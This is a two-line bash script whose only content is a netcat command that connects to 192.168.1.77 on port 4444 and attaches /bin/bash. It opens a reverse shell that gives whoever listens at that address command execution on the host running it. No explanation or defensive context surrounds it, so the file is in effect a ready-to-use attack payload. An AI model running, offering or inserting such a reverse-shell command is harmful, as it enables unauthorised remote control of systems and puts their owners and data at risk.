#!/usr/bin/env bash
`which nc` 192.168.1.77 4444 -e /bin/bash
